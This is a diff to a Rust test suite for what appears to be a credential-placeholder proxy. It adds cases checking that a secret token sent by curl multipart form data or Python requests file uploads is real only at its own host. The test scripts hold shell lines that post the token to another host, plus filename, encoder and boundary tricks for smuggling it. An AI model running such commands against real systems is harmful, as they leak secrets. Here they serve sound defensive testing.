@@ -33,6 +33,7 @@ pub fn cases() -> Vec<Case> {
     let python: &'static [&'static str] = vec![&*client("venv/bin/python").leak()].leak();
     vec![
         case_with("B16 B41 B42 a placeholder is real at its own host alone, with curl", &["curl"], curl),
+        case_with("B41 B42 a placeholder is real in its field of form data alone, with curl -F", &["curl"], form_data),
         case_with("B33 B42 a placeholder does not follow a redirect to another host", &["curl"], redirect),
         case_with("B41 B42 a placeholder is real at its own host alone, with Python requests", python, requests),
         case_with("B42 git logs in with a placeholder as its password", &["git"], git),
@@ -120,6 +121,42 @@ fn curl(person: Person) {
     warned(&world, &ran, 8);
 }
 
+fn form_data(person: Person) {
+    let world = world(person);
+    let script = "printenv NOTES_TOKEN\n\
+         yes \"$(printf '\\377\\r--x')\" | head -c 300000 > a.bin; printf %s \"$NOTES_TOKEN\" > key\n\
+         n() { curl -sS -F channel=general -F \"client_secret=$NOTES_TOKEN\" \"$@\" https://notes.example/echo; echo; }\n\
+         n\n\
+         n -F 'client_secret=<key;type=text/plain'\n\
+         n --http1.1 -F 'f=@a.bin;filename=\"a b.bin\"' | tail -c 1 | tr -d '\\n'\n\
+         n --http1.1 -H 'transfer-encoding: chunked' -F f=@a.bin | tail -c 1 | tr -d '\\n'\n\
+         w() { curl -sS -o /dev/null -w '%{http_code} %header{x-carboy-reason}\\n' \"$@\"; }\n\
+         w -F note=x -F \"note=$NOTES_TOKEN\" https://notes.example/echo\n\
+         w -F client_secret=@key https://notes.example/echo\n\
+         w -F \"client_secret=x;filename=$NOTES_TOKEN\" https://notes.example/echo\n\
+         w -F \"client_secret=$NOTES_TOKEN;encoder=base64\" https://notes.example/echo\n\
+         w -F \"client_secret=$NOTES_TOKEN\" -H 'content-type: multipart/form-data; boundary=other' https://notes.example/echo\n\
+         w -F \"client_secret=$NOTES_TOKEN\" https://a.wild.example/echo";
+    let ran = world.sh(script).expect_code(0);
+    let fake = placeholder(&ran);
+    let lines: Vec<&str> = ran.stdout.lines().collect();
+    assert!(lines[1].contains(&fake) && lines[2].contains(&fake), "{}", ran.stdout);
+    assert_eq!(lines[lines.len() - 6..], vec![format!("403 {REASON}"); 6], "{}", ran.stderr);
+    let received: Vec<_> = world.provider.received().into_iter().filter(|r| r.path == "/echo").collect();
+    let places = |body: &[u8], text: &[u8]| body.windows(text.len()).filter(|window| *window == text).count();
+    let field = |more: &str| format!("name=\"client_secret\"\r\n{more}\r\n{REAL_GEMINI_KEY}\r\n--");
+    let file: Vec<u8> = b"\xff\r--x\n".iter().copied().cycle().take(300_000).collect();
+    let file = [&b"octet-stream\r\n\r\n"[..], &file, b"\r\n--"].concat();
+    let counts = received.iter().map(|one| {
+        assert_eq!(one.header("content-length"), Some(one.body.len().to_string().as_str()));
+        let typed = places(&one.body, field("Content-Type: text/plain\r\n").as_bytes());
+        [places(&one.body, field("").as_bytes()), typed, places(&one.body, &file)]
+    });
+    assert_eq!(counts.collect::<Vec<_>>(), [[1, 0, 0], [1, 1, 0], [1, 0, 1], [1, 0, 1]]);
+    only_at_home(&world, &ran, 4);
+    warned(&world, &ran, 6);
+}
+
 fn redirect(person: Person) {
     let world = world(person);
     let script = "printenv NOTES_TOKEN\n\
@@ -139,7 +176,8 @@ fn requests(person: Person) {
          print(key)\n\
          home, other = 'https://notes.example/echo', 'https://a.wild.example/echo'\n\
          for more in [dict(headers={'Authorization': 'Bearer ' + key}), dict(params={'key': key}), dict(auth=('me', key)),\n\
-         \x20            dict(data={'client_secret': key}), dict(json={'client_secret': key})]:\n\
+         \x20            dict(data={'client_secret': key}), dict(json={'client_secret': key}),\n\
+         \x20            dict(data={'client_secret': key}, files={'f': ('a.bin', b'\\x00\\r\\n--')})]:\n\
          \x20   there = requests.post(home, **more)\n\
          \x20   there.raise_for_status()\n\
          \x20   shown = requests.Request('POST', home, **more).prepare()\n\
@@ -151,9 +189,9 @@ fn requests(person: Person) {
          \x20   print(away.status_code, away.headers.get('x-carboy-reason'))\n";
     let ran = world.run(&[&client("venv/bin/python"), "-c", program]).expect_code(0);
     let lines: Vec<&str> = ran.stdout.lines().collect();
-    assert_eq!(lines[1..], vec![format!("403 {REASON}"); 5], "{}", ran.stderr);
-    only_at_home(&world, &ran, 5);
-    warned(&world, &ran, 5);
+    assert_eq!(lines[1..], vec![format!("403 {REASON}"); 6], "{}", ran.stderr);
+    only_at_home(&world, &ran, 6);
+    warned(&world, &ran, 6);
 }
 
 /// A server that asks for a password as git hosts do, and keeps what it was given.
